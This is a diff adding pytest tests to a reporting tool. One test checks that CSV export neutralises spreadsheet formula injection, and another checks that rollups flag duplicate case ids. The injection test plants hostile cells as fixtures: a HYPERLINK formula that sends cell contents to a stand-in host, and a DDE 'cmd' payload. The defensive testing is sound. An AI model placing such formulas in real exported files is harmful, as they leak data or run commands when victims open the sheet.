@@ -183,3 +183,41 @@ def test_percentiles(values, median, p90):
 ])
 def test_parse_when(text, end, expected):
     assert reporting.parse_when(text, NOW, flag="--since", end=end).isoformat() == expected
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(cli, cfg):
+    # OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading apostrophe.
+    cases = team_set(cfg)
+    hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+               "\r=1+1", "amy"]
+    for case, agent in zip(cases.values(), hostile, strict=True):
+        case["agent"] = agent
+    cases["B"]["order"]["address"]["line1"] = "=cmd|' /C calc'!A0"  # a CRM address, shown with --include-pii
+    cases["A"]["order"]["address"]["line1"] = "=cmd|' /C calc'!A0"
+    store(list(cases.values()))
+    for args in ((), ("--include-pii",)):
+        rows = list(csv.reader(io.StringIO(cli("report", "--format", "csv", *args).out)))
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], [c for c in cells if c[:1] in "=+-@"]
+        agents = {row[1] for row in rows if row[0] == "by_agent"}
+        assert {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
+                "amy"} <= agents
+    assert any(c.startswith("'=cmd|") for c in cells)  # the address, kept readable, made inert
+
+
+def test_a_rollup_reports_two_cases_sharing_an_id_instead_of_merging_them(cli, cfg, tmp_path):
+    cases = team_set(cfg)
+    team = tmp_path / "team"
+    team.mkdir()
+    clash = dict(cases["D"], id=cases["A"]["id"])  # another customer's case that drew the same id
+    store([cases["A"], cases["B"]], team / "amy.db")
+    store([clash, add_note(cases["B"], "copied file, later note")], team / "bob.db")
+    r = cli("report", "--format", "json", "--include-pii", "--db", str(team))
+    assert r.code == 0, r.err
+    figures = json.loads(r.out)
+    assert figures["total"] == 3  # A and its clash both counted; B (a copy) once
+    assert figures["duplicate_ids"] == [cases["A"]["id"]]
+    assert cases["A"]["id"] in r.err and "warning" in r.err and r.err.count("\n") == 1
